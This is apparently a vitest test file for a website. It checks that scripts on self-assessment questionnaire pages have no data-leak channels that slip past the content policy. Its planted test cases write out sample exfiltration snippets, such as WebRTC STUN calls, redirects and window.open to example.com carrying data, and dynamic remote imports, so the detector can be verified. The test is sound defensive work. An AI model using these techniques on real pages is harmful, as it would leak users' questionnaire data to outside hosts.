import { describe, expect, test } from 'vitest';
import { allPages, dist } from '../pages.ts';
import { builtTown } from '../portal/built-town.ts';
import { allowed } from './allowed-ways-out.ts';
import { readScript, scriptsOf } from './scripts-of.ts';
import { findWaysOut } from './ways-out.ts';

// The real site may have no questionnaire to let out; the town has one of each kind.
const town = builtTown();
const scripts = [dist, town].flatMap((folder) =>
  [
    ...new Set(
      allPages(folder)
        .filter(isAssessment)
        .flatMap((page) => scriptsOf(page, folder)),
    ),
  ].map((name) => ({ name, text: readScript(name, folder) })),
);

describe('自测页的脚本里，没有策略拦不住的出路', () => {
  test('自测页确实有脚本可查', () => {
    expect(scripts.some(({ name }) => name.startsWith('Player'))).toBe(true);
    expect(scripts.some(({ name }) => name.startsWith('survey-core-session'))).toBe(true);
  });

  test.each(scripts)('$name', ({ name, text }) => {
    const strange = findWaysOut(text).filter(
      ({ excerpt }) =>
        !allowed.some((line) => line.script.test(name) && line.excerpt.test(excerpt)),
    );
    expect(strange).toEqual([]);
  });

  test('允许的每一条都还用得着', () => {
    const found = scripts.flatMap(({ name, text }) =>
      findWaysOut(text).map(({ excerpt }) => ({ name, excerpt })),
    );
    const idle = allowed.filter(
      (line) =>
        !found.some(({ name, excerpt }) => line.script.test(name) && line.excerpt.test(excerpt)),
    );
    expect(idle).toEqual([]);
  });

  test.each([
    ['WebRTC', 'new RTCPeerConnection({iceServers:[{urls:`stun:`+a}]})'],
    ['开新窗口', 'window.open(`https://example.com/?`+a)'],
    ['改网页地址', 'location.href=`https://example.com/?`+a'],
    ['改网页地址', 'self.location=a'],
    ['改网页地址', 'window["location"].assign(a)'],
    ['Navigation API', 'navigation.navigate(`https://example.com/?`+a)'],
    ['替人点链接', 'let b=document.createElement(`a`);b.click()'],
    ['算出来的 import', 'import(`https://example.com/`+a)'],
    ['算出来的 import', 'import(a)'],
    ['算出来的地址', 'let i=document.createElement(`script`);i.src=a'],
    ['自动跳转的标签', 'm.setAttribute(`http-equiv`,`refresh`)'],
    ['历史记录里写字', 'history.pushState(0,0,a)'],
    ['剪贴板和分享', 'navigator.share({text:a})'],
  ])('栽一条「%s」，查得出来：%s', (name, planted) => {
    expect(findWaysOut(`let z=1;${planted};`).map((finding) => finding.name)).toContain(name);
    expect(
      findWaysOut(planted).every(({ excerpt }) =>
        allowed.some((line) => line.script.test('Player.x.js') && line.excerpt.test(excerpt)),
      ),
    ).toBe(false);
  });
});

function isAssessment(page: string): boolean {
  return page.startsWith('assessments/');
}
